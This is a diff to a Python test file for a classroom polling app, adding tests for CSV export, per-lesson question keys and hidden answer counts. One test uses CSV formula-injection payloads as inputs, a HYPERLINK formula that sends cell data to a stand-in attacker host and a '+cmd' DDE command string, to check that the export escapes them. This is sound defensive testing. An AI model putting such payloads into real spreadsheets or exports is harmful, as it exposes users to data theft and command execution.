@@ -114,9 +114,69 @@ def test_the_csv_has_every_question_its_counts_and_the_right_answer():
     room.show(Shown(7, 10, {"ja": "", "en": ""}, Poll("7", {"ja": "次は？", "en": "Next?"}, ((5, "dog"),))))
     room.answer(B, "7", 5)
     rows = list(csv.reader(io.StringIO(room.csv_text("ja"))))
-    assert rows == [["scene", "question", "choice", "count", "right"],
-                    ["4", "どの鍵？", "The", "0", "no"], ["4", "どの鍵？", "cat", "1", "yes"],
-                    ["4", "どの鍵？", "sat", "1", "no"], ["7", "次は？", "dog", "1", ""]]
+    assert rows == [["lesson", "scene", "question", "choice", "count", "right"],
+                    ["", "4", "どの鍵？", "The", "0", "no"], ["", "4", "どの鍵？", "cat", "1", "yes"],
+                    ["", "4", "どの鍵？", "sat", "1", "no"], ["", "7", "次は？", "dog", "1", ""]]
+
+
+def test_no_cell_of_the_csv_runs_as_a_formula():
+    """A lesson file's title, question and tokens are its author's: a spreadsheet opening the CSV runs none
+    (attacker round 35: =HYPERLINK(...) and +cmd|' /C calc'!A0 were written as they were)."""
+    poll = Poll("4", {"ja": "=1+2", "en": "@SUM(A1)"}, ((0, '=HYPERLINK("http://ev.il/?"&A1)'),
+                                                        (1, "+cmd|' /C calc'!A0"), (2, "-2"), (3, "\tx")))
+    room = Room(code="ABC234")
+    room.show(Shown(4, 10, {"ja": "", "en": ""}, poll, title={"ja": "=授業", "en": "=Lesson"}))
+    rows = list(csv.reader(io.StringIO(room.csv_text("ja"))))
+    cells = [cell for row in rows[1:] for cell in row[:4]]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert rows[1][:4] == ["'=授業", "4", "'=1+2", "'=HYPERLINK(\"http://ev.il/?\"&A1)"]
+    assert [row[3] for row in rows[2:]] == ["'+cmd|' /C calc'!A0", "'-2", "'⇥x"]  # the tab made visible
+
+
+def test_another_lessons_question_under_the_same_key_is_another_question():
+    """A lesson opened while the room is open asks its own scene 4: the first lesson's answers are not its
+    answers, an answer of the first outside its choices breaks nothing, and the CSV keeps both (attacker round
+    35: the old answers came back as the new question's, closed, or counting them raised a ValueError)."""
+    room = Room(code="ABC234")
+    wide = Poll("4", {"ja": "どれ？", "en": "Which?"}, tuple((k, f"t{k}") for k in range(8)))
+    room.show(Shown(4, 10, {"ja": "", "en": ""}, wide, title={"ja": "一", "en": "One"}))
+    for d in (A, B):
+        room.join(d)
+    room.answer(A, "4", 6)
+    room.reveal(6)
+    room.show(Shown(4, 12, {"ja": "", "en": ""}, POLL, title={"ja": "二", "en": "Two"}))
+    poll, counts, open_ = room.counts()
+    assert (poll.answer, counts, open_) == (None, [0, 0, 0], True)
+    room.answer(B, "4", 2)
+    assert room.counts()[1] == [0, 0, 1] and room.asked == 2
+    rows = list(csv.reader(io.StringIO(room.csv_text("en"))))
+    assert [r[0] for r in rows[1:]] == ["One"] * 8 + ["Two"] * 3
+    assert [r[4] for r in rows if r[3] == "t6"] == ["1"] and [r[4] for r in rows if r[3] == "sat"] == ["1"]
+
+
+def test_an_edited_question_is_asked_anew_and_the_same_one_keeps_its_answers():
+    room = asking()
+    room.join(A)
+    room.answer(A, "4", 1)
+    room.show(Shown(5, 10, {"ja": "", "en": ""}))
+    room.show(Shown(4, 10, {"ja": "", "en": ""}, POLL))  # back to it: its answers kept
+    assert room.counts()[1] == [0, 1, 0] and room.asked == 1
+    fewer = Poll("4", POLL.text, POLL.choices[:2])
+    room.show(Shown(4, 10, {"ja": "", "en": ""}, fewer))  # the lesson edited, given again
+    assert room.counts()[1] == [0, 0] and room.asked == 2
+
+
+def test_a_scene_shown_again_hides_its_counts_until_the_teacher_shows_them():
+    """The window hides the counts at every scene: the room does too (attacker round 35: Q, a scene and back
+    left the students' pages showing the counts the projector hid)."""
+    room = asking()
+    room.join(A)
+    room.answer(A, "4", 1)
+    room.show_counts(True)
+    assert room.state("en", A)["question"]["counts"] == [0, 1, 0]
+    room.show(Shown(5, 10, {"ja": "", "en": ""}))
+    room.show(Shown(4, 10, {"ja": "", "en": ""}, POLL))
+    assert room.state("en", A)["question"]["counts"] is None
 
 
 def test_a_bucket_allows_its_burst_then_its_rate():
